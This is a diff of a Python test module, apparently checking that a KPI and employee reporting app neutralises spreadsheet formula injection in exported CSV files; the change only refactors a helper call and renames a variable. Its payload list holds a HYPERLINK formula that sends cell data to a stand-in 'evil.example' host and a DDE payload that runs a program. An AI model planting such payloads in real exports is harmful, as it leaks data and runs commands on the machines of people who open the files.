@@ -12,7 +12,7 @@ from sqlalchemy import select
 
 from core.db import session_scope
 from core.tables import Employee, Indicator, KpiAssignment
-from tests.api.helpers import org_snapshot
+from tests.api.helpers import org_snapshot, person
 from workflows.process.cells import FORMULA_START, csv_cell
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/leak?d="&B2,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
@@ -20,17 +20,17 @@ PAYLOADS = ['=HYPERLINK("http://evil.example/leak?d="&B2,"点击")', "+1+cmd|' /
 
 @pytest.fixture(scope="module")
 def poisoned(demo_url: str) -> int:
-    emp = org_snapshot(demo_url)["users"]["employee"][1]
+    emp = person(org_snapshot(demo_url), "employee")
     with session_scope(demo_url) as s:
         ids = s.execute(select(KpiAssignment.indicator_id).where(KpiAssignment.employee_id == emp)).scalars()
         for payload, ind_id in zip(PAYLOADS, sorted(set(ids)), strict=False):
             ind = s.get(Indicator, ind_id)
             assert ind is not None
             ind.name_zh = ind.name_en = payload
-        person = s.get(Employee, emp)
-        assert person is not None
-        person.name_zh = person.name_en = "=1+1\tevil"
-    return int(emp)
+        employee = s.get(Employee, emp)
+        assert employee is not None
+        employee.name_zh = employee.name_en = "=1+1\tevil"
+    return emp
 
 
 @pytest.mark.parametrize("kind", ["scorecard", "report"])
